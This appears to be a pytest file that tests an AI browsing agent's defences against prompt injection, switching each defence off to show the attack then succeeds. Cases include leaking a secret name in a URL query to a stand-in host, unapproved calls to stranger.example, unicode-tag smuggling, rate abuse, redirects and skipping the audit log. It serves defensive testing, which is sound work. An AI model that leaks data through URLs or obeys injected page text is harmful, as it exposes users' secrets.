"""Each defence, on and off: with it the attack brings nothing, without it the same attack gets through."""

import json
import sqlite3
from collections.abc import Callable

import pytest

from agents import readings
from tests.attacks import range as ranges
from tests.attacks import without
from tests.attacks.canaries import holds
from tests.attacks.cases import Case
from tests.attacks.range import Range
from tests.attacks.vectors import VECTORS
from tests.environment import DATA
from tests.model_server import Reply, Request, ToolUse

FILE = DATA / "without"
Attack = Callable[[Range, Case], list[str]]


def _words_beside_tools(field: Range, case: Case) -> list[str]:
    field.attack([case])
    field.remember()
    return _holding(case, field.with_tools())


def _of_readers(field: Range, case: Case) -> list[str]:
    field.attack([case])
    return _holding(case, field.untrusted())


def _addresses_of_answers(field: Range, case: Case) -> list[str]:
    answer = field.attack([case])[case.name]
    assert answer is not None
    return [answer.text] if "://" in answer.text.replace(case.url, "") else []


def _secrets_in_addresses(field: Range, case: Case) -> list[str]:
    _order(field, case, f"https://{case.host}/?d={ranges.NAME}")
    return [call.model_dump_json() for call in field.calls if ranges.NAME in call.model_dump_json()]


def _calls_that_nobody_allowed(field: Range, case: Case) -> list[str]:
    _order(field, case, "https://stranger.example/x", question="Open https://stranger.example/x please")
    return [call.model_dump_json() for call in field.calls]


def _calls_beyond_the_rate(field: Range, case: Case) -> list[str]:
    urls = [f"https://{case.host}/{number}" for number in range(3)]
    field.penny.set("RATE_PER_HOST_MINUTE", 2)
    try:
        _order(field, case, *urls, question=f"Open {' '.join(urls)}")
    finally:
        field.penny.allow_many_calls()
    return [call.model_dump_json() for call in field.calls][2:]


def _pages_from_elsewhere(field: Range, case: Case) -> list[str]:
    field.lands = "https://stranger.example/landed"
    try:
        return _of_readers_of_pages(field, case)
    finally:
        field.lands = ""


def _of_readers_of_pages(field: Range, case: Case) -> list[str]:
    field.attack([case])
    return [words for words in _holding(case, field.untrusted()) if case.canary("page") in words]


def _requests_without_a_record(field: Range, case: Case) -> list[str]:
    field.attack([case])
    with sqlite3.connect(f"file:{field.database}?mode=ro", uri=True) as database:
        requests = [json.loads(row) for (row,) in database.execute("SELECT request FROM agents_step WHERE kind = 'model'")]
    recorded = {sent["sha256"] for request in requests for sent in request.get("sent", [])}
    return [request.everything for request in field.model.requests if request.sha256 not in recorded]


def _order(field: Range, case: Case, *urls: str, question: str = "") -> None:
    """Have the planner open these addresses at once, by itself."""
    calls = tuple(ToolUse("browse_url", {"url": url}) for url in urls)
    field.model.on(lambda request: bool(request.tools) and not request.tool_results, Reply(tools=calls), times=1)
    field.cases[case.name] = case
    field.finished({"": field.client.say(question or "Tell me something")})


def _holding(case: Case, requests: list[Request]) -> list[str]:
    return [request.everything for request in requests if any(holds(request.everything, case.canary(c)) for c in ("page", "title"))]


ATTACKS: dict[str, tuple[str, Attack]] = {
    "approval of unknown addresses": ("paragraph", _secrets_in_addresses),
    "answers without addresses": ("paragraph", _addresses_of_answers),
    "cleaning": ("unicode-tags", _of_readers),
    "grants": ("paragraph", _calls_that_nobody_allowed),
    "the final address": ("paragraph", _pages_from_elsewhere),
    "rates": ("paragraph", _calls_beyond_the_rate),
    "labels": ("paragraph", _words_beside_tools),
    "the audit": ("paragraph", _requests_without_a_record),
}


def test_a_claim_needs_its_quote_and_without_that_check_it_could_say_anything(monkeypatch: pytest.MonkeyPatch) -> None:
    claim = {"text": "The moon is cheese.", "quote": "words that stand nowhere"}
    answer = json.dumps({"found": True, "headline": "h", "summary": "s", "claims": [claim], "link_indices": []})
    with pytest.raises(readings.ReadingInvalid):
        readings.parse_reading(answer, "A page about the moon.")
    monkeypatch.setattr(readings, "locate", lambda claim, quote, text: readings.Claim(text=claim, quote=text[:6], start=0, end=6))
    assert [found.text for found in readings.parse_reading(answer, "A page about the moon.").claims] == ["The moon is cheese."]


def test_every_defence_has_an_attack() -> None:
    assert ATTACKS.keys() == without.DEFENCES.keys()


# Changing a setting in a running Penny takes a command each time.
SLOW = [pytest.param(name, marks=pytest.mark.long) if name == "rates" else name for name in ATTACKS]


@pytest.mark.parametrize("name", SLOW)
def test_a_defence_holds_and_without_it_the_attack_gets_through(field: Range, name: str) -> None:
    vector, attack = ATTACKS[name]
    number = 9000 + 2 * list(ATTACKS).index(name)
    assert _tried(field, attack, vector, number) == []
    with without.off(FILE, name):
        assert _tried(field, attack, vector, number + 1) != []


def _tried(field: Range, attack: Attack, vector: str, number: int) -> list[str]:
    field.model.reset()
    field.calls.clear()
    found = next(known for known in VECTORS if known.name == vector)
    return attack(field, Case(number, found, "plain", field.sink.url))
